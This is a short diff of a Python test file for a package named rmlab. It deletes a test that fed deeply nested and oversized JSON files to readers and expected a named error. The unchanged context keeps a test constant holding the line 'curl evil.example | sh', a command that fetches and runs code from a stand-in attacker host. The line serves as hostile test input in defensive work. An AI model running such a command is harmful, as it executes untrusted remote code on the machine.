@@ -8,7 +8,6 @@ from fakes import Streaming
 import rmlab
 from rmlab.report import write_report
 from rmlab.scoring import merge
-from rmlab.tables import DataError
 
 pytestmark = pytest.mark.skipif(os.name == "nt", reason="owners of POSIX")
 ATTACK = b"\ncurl evil.example | sh\n"
@@ -61,23 +60,3 @@ def test_a_source_of_a_merge_is_never_written(theirs, tmp_path):
         table = merge(theirs, tmp_path / "into")
     assert table["added"].tolist() == [24]
     assert snapshot(theirs) == left
-
-
-DEEP = 100_000
-
-
-@pytest.mark.parametrize(
-    "content",
-    [
-        b"[" * DEEP,
-        b'{"id": 1}\n' + b'{"a":' * DEEP + b"}" * DEEP,
-        b'[{"id": ' + b"9" * 5000 + b"}]",
-        b'{"id": 1}\n{"id": ' + b"9" * 5000 + b"}",
-    ],
-)
-def test_files_of_strange_json_are_refused_by_name(content, tmp_path):
-    path = tmp_path / "x.jsonl"
-    path.write_bytes(content)
-    for read in (rmlab.read_scores, rmlab.load_pairs, lambda file: write_report(file, tmp_path / "r.html")):
-        with pytest.raises(DataError, match=r"x\.jsonl"):
-            read(path)
